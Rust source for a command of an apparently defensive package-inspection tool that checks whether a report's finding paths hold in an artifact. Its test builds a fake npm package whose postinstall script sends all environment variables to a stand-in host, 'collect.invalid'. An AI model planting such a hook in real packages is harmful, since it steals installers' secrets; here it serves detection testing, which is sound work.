//! `customs evidence REPORT ARTIFACT`: whether the paths of a report stand in an artifact,
//! without the engine that found them.

use crate::error::{Doing as _, Failure};
use crate::inspect::tree_of;
use crate::output;
use customs_inspect::Checker;
use customs_model::{Verdict, printable};
use serde::Deserialize;
use std::fmt::Write as _;
use std::path::PathBuf;

/// Bytes of a report that is read.
const LARGEST: u64 = 256 << 20;

/// Arguments of `customs evidence`.
#[derive(clap::Args)]
pub struct Arguments {
    /// What `customs inspect --json` wrote
    report: PathBuf,
    /// The archive or folder that it is about
    artifact: PathBuf,
    /// The target in the report, by its number from 1
    #[arg(long, default_value_t = 1, value_name = "NUMBER")]
    target: usize,
}

#[derive(Deserialize)]
struct Report {
    schema: String,
    targets: Vec<Target>,
}

#[derive(Deserialize)]
struct Target {
    verdict: Verdict,
}

/// Checks each path of a target of a report.
pub fn main(arguments: &Arguments) -> Result<u8, Failure> {
    let name = printable(&arguments.report.display().to_string(), 300);
    let length = std::fs::metadata(&arguments.report)
        .doing(format!("read {name}"))?
        .len();
    if length > LARGEST {
        return Err(Failure::usage(format!(
            "{name} is larger than a report that is read"
        )));
    }
    let text = std::fs::read(&arguments.report).doing(format!("read {name}"))?;
    let report: Report = serde_json::from_slice(&text).map_err(|error| {
        Failure::usage(format!(
            "{name} is no report of `customs inspect --json`: {error}"
        ))
    })?;
    if report.schema != "customs.inspect/1" {
        return Err(Failure::usage(format!(
            "{name} has the schema {}, not customs.inspect/1",
            printable(&report.schema, 60)
        )));
    }
    let target = arguments
        .target
        .checked_sub(1)
        .and_then(|number| report.targets.get(number))
        .ok_or_else(|| {
            Failure::usage(format!(
                "{name} has {} targets; --target names one from 1",
                report.targets.len()
            ))
        })?;
    let tree = tree_of(&arguments.artifact)?;
    let (text, broken) = told(&target.verdict, &tree);
    output::result(&text)?;
    Ok(u8::from(broken))
}

/// What checking each path came to, and whether one of them is contradicted.
fn told(verdict: &Verdict, tree: &customs_inspect::Tree) -> (String, bool) {
    let mut out = String::new();
    let mut broken = false;
    let mut checker = Checker::of(tree);
    let paths = verdict.findings.iter().filter(|f| !f.path.is_empty());
    for finding in paths {
        let rule = &finding.rule;
        let message = printable(&finding.message, 300);
        match checker.check(&finding.path) {
            Err(mismatch) => {
                broken = true;
                let _ = writeln!(out, "{rule}: CONTRADICTED: {mismatch}\n  {message}");
            }
            Ok(checked) => {
                let _ = writeln!(
                    out,
                    "{rule}: {} of {} steps shown\n  {message}",
                    checked.shown, checked.steps
                );
                for (step, because) in &checked.unshown {
                    let because = printable(because, 200);
                    let _ = writeln!(out, "  step {step} not checked: {because}");
                }
            }
        }
    }
    if out.is_empty() {
        out.push_str("no finding of the report has a path\n");
    }
    (out, broken)
}

#[cfg(test)]
mod tests {
    use super::*;
    use customs_inspect::{Content, Entry, Kind, Tree, certify, inspect_tree};
    use customs_rules::{RuleSet, judge_code};

    fn thief(code: &str) -> Tree {
        let entry = |path: &str, text: &str| Entry {
            path: format!("package/{path}"),
            content: Content::Whole(text.as_bytes().into()),
            length: text.len() as u64,
            kind: Kind::Text,
            executable: false,
        };
        Tree {
            entries: vec![
                entry(
                    "package.json",
                    r#"{"scripts": {"postinstall": "node a.js"}}"#,
                ),
                entry("a.js", code),
            ],
            ..Tree::default()
        }
    }

    #[test]
    fn a_report_is_checked_after_it_was_written_and_read() {
        let code = "const all = process.env;\nfetch('https://collect.invalid', {body: JSON.stringify(all)});\n";
        let tree = thief(code);
        let mut verdict = judge_code(&inspect_tree(&tree), &RuleSet::standard());
        for finding in &mut verdict.findings {
            certify(&mut finding.path, &tree);
        }
        let text = serde_json::to_string(&verdict).unwrap();
        let verdict: Verdict = serde_json::from_str(&text).unwrap();
        let (text, broken) = told(&verdict, &tree);
        assert!(!broken, "{text}");
        assert!(
            text.contains("secret-to-network: 3 of 3 steps shown"),
            "{text}"
        );
        let other = thief(&code.replace("all", "own"));
        let (text, broken) = told(&verdict, &other);
        assert!(broken);
        assert!(text.contains("CONTRADICTED"), "{text}");
    }
}
